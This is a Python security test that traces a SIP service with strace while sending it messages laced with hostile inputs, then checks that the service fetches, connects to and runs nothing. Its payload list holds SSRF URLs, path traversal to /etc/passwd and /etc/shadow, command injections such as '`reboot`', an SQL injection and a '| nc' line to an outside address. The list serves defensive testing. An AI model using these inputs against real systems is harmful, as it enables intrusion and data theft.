"""T26: for what it hears the service fetches nothing, connects to nobody, starts no program, opens no file.

Seen by the system calls of a burst: every field holds URLs, paths and commands.
"""

from __future__ import annotations

import re
import shutil
import subprocess
import time
from pathlib import Path

import pytest

from tests.outside.phone import Phone, plain_subscribe
from tests.outside.server import PATIENCE, Server
from tests.security.hostile_lan import ELSEWHERE, PHONE, SERVER
from tests.security.test_t01_reflection import with_row

CALLS = "connect,execve,execveat,fork,vfork,openat,open,creat,mkdir,unlink,rename,sendto,sendmsg,sendmmsg"
SAID = (
    f"http://{ELSEWHERE}/latest/meta-data/",
    f"https://{ELSEWHERE}:8443/x",
    f"tftp://{ELSEWHERE}/boot.cfg",
    "file:///etc/shadow",
    "gopher://127.0.0.1:6379/_x",
    "../../../../etc/passwd",
    "/dev/tcp/203.0.113.9/80",
    "$(touch /tmp/t26)",
    "`reboot`",
    "'; drop table phones; --",
    "| nc 203.0.113.9 80",
    "\\\\203.0.113.9\\share",
)
ROWS = (
    'Event: ua-profile;profile-type="device";vendor="{v}";model="{v}";version="{v}"',
    "User-Agent: {v}",
    "Contact: <{v}>",
    "Call-Info: <{v}>",
    "Content-Location: {v}",
    "Refer-To: <{v}>",
)


def test_a_burst_makes_no_call_but_its_answers(server: Server, phone: Phone, tmp_path: Path) -> None:
    if shutil.which("strace") is None:
        pytest.skip("no strace")
    trace = tmp_path / "trace"
    pid = str(server.process.pid)
    argv = ["strace", "-f", "-qq", "-s", "40", "-o", str(trace), "-p", pid, "-e", f"trace={CALLS}"]
    with subprocess.Popen(argv) as strace:
        try:
            _wait_until_traced(pid, strace)
            for number, said in enumerate(SAID):
                for row in ROWS:
                    octets = plain_subscribe(PHONE, 5060, f"0226{number:08x}", f"t26-{number}-{row[:6]}")
                    phone.send(with_row(octets, row.replace("{v}", said.replace("\\", "\\\\"))), to=SERVER)
            phone.hear_until_fence(to=SERVER)
        finally:
            strace.terminate()
    lines = trace.read_text(encoding="utf-8").split("\n")
    sent = [line for line in lines if "sendto(" in line]
    assert len(sent) >= len(SAID), "the trace saw the answers"
    assert {match[1] for line in sent for match in re.finditer(r'inet_addr\("([0-9.]+)"\)', line)} == {PHONE}
    opened = [line for line in lines if re.search(r" (open|openat|creat)\(", line)]
    assert [
        line for line in opened if "O_WRONLY" in line or "O_RDWR" in line or _holds_what_was_said(line)
    ] == []
    others = [line for line in lines if line and line not in sent + opened and not _is_the_end(line)]
    assert others == []


def _holds_what_was_said(line: str) -> bool:
    return any(word in line for word in (ELSEWHERE, "passwd", "shadow", "meta-data", "boot.cfg", "t26"))


def _is_the_end(line: str) -> bool:
    """What strace says of threads and signals, and what the service tells its manager."""
    return "+++" in line or "---" in line or "resumed>" in line or "AF_UNIX" in line


def _wait_until_traced(pid: str, strace: subprocess.Popen[bytes]) -> None:
    deadline = time.monotonic() + PATIENCE
    while any("TracerPid:\t0" in _status(task) for task in Path(f"/proc/{pid}/task").iterdir()):
        assert strace.poll() is None
        assert time.monotonic() < deadline
        time.sleep(0.01)


def _status(task: Path) -> str:
    return (task / "status").read_text(encoding="utf-8")
